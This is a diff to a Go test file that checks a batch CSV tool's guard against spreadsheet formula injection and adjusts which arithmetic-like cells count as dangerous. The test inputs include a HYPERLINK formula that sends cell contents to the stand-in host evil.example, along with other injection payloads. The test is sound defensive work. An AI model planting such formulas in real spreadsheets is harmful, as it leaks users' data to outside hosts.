@@ -216,9 +216,11 @@ func TestNoControlSequences(t *testing.T) {
 
 // Case 11: with --keep-going a failed row's cells are copied out; one that
 // a spreadsheet would run as a formula gets the OWASP guard, while numbers
-// we computed (a refund is negative) stay numbers.
+// we computed (a refund is negative) stay numbers. (+1 and -1+2 are
+// arithmetic an input may be written in, so the refused cells here are
+// malformed arithmetic.)
 func TestBatchFormulaInjection(t *testing.T) {
-	cells := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-abc"}
+	cells := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1+1", "+1+", "-1+", "@SUM(A1)", "\t=1", "\r=1", "-abc"}
 	in := "wages,withheld\n50000,120\n"
 	for _, c := range cells {
 		in += `"` + strings.ReplaceAll(c, `"`, `""`) + `",1` + "\n"
